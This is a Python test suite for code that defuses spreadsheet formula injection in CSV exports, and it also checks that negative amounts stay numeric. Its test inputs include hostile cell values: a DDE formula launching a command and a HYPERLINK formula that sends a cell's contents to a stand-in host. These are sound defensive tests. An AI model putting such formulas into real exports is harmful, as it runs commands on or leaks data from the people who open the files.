"""Text cells that a spreadsheet must not run, and numbers that must stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import duckdb
import pandas as pd
import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from outbound.cells import armed, as_safe_csv, defused
from rating.frames import LINES
from rating.rendering import as_csv

STARTS = "=+-@\t\r\n＝＋－＠"
TEXTS = st.text(
    st.one_of(
        st.sampled_from("=+-@＝＋－＠'\"\t\r\n ,;|a1é"), st.characters(exclude_categories=["Cs"])
    ),
    max_size=12,
)


def cell(text: str) -> str:
    """One defused cell."""
    return str(pl.select(defused(pl.lit(text))).item())


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=cmd|" /C calc"!A0',
        '=HYPERLINK("https://x.example/?"&A1)',
        "+1",
        "-5.00",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "'=1",
        "''=1",
    ],
)
def test_a_formula_becomes_text(text: str) -> None:
    """An apostrophe stands before it, and taking it off gives it back."""
    assert cell(text) == "'" + text
    assert pl.select(armed(pl.lit("'" + text))).item() == text


@pytest.mark.parametrize("text", ["", "acme", "1-2", "a=b", "'quoted'", "{}", '{"a":"=1"}', "5"])
def test_other_text_is_left_alone(text: str) -> None:
    """Nothing is prefixed that no spreadsheet would run."""
    assert cell(text) == text


@given(st.lists(TEXTS, min_size=1, max_size=8))
@example(["=1", "'=1", "''=1"])
def test_text_comes_back(texts: list[str]) -> None:
    """Through a CSV and back every text is what it was, and none begins a formula on the way."""
    frame = pl.DataFrame({"t": texts, "n": ["-5.00"] * len(texts)}, schema={"t": str, "n": str})
    content = as_safe_csv(frame, numbers=frozenset({"n"}))
    rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
    read = pl.DataFrame(rows[1:], schema={"t": pl.String, "n": pl.String}, orient="row")
    assert not any(text.lstrip(" ").startswith(tuple(STARTS)) for text in read["t"])
    assert read.select(armed(pl.col("t")))["t"].to_list() == texts
    assert set(read["n"]) == {"-5.00"}


def test_totals_are_safe_and_typed_everywhere(tmp_path) -> None:
    """The CSV of totals: what a caller chose stands behind a brace; a credit is a number."""
    moment = datetime(2026, 1, 1, tzinfo=UTC)
    row = {
        "line_id": "k~20260101~" + "0" * 20, "customer": "acme", "contract": "k",
        "product": "p", "meter": "m", "dimensions": '{"model":"=cmd|\\" /C calc\\"!A1"}',
        "timing": "arrears", "period_start": moment, "period_end": moment, "currency": "USD",
        "quantity": Decimal("1.5"), "amount": Decimal("-5.00"), "kind": "credit",
        "status": "open", "event_count": 1, "price_version": "v",
    }  # fmt: skip
    lines = pl.DataFrame([[row.get(name) for name in LINES]], LINES, orient="row")
    content = as_csv(lines)
    cells = pl.read_csv(io.BytesIO(content), infer_schema=False).row(0, named=True)
    risky = {name: text for name, text in cells.items() if text and text[0] in STARTS}
    assert risky == {"amount": "-5.00"}
    path = tmp_path / "totals.csv"
    path.write_bytes(content)
    assert pd.read_csv(path)["amount"].dtype.kind == "f"
    assert pl.read_csv(path)["amount"].dtype.is_float()
    (found,) = duckdb.sql(f"SELECT amount, quantity, dimensions FROM read_csv('{path}')").fetchall()
    assert (found[0], found[1], found[2]) == (-5.0, 1.5, row["dimensions"])
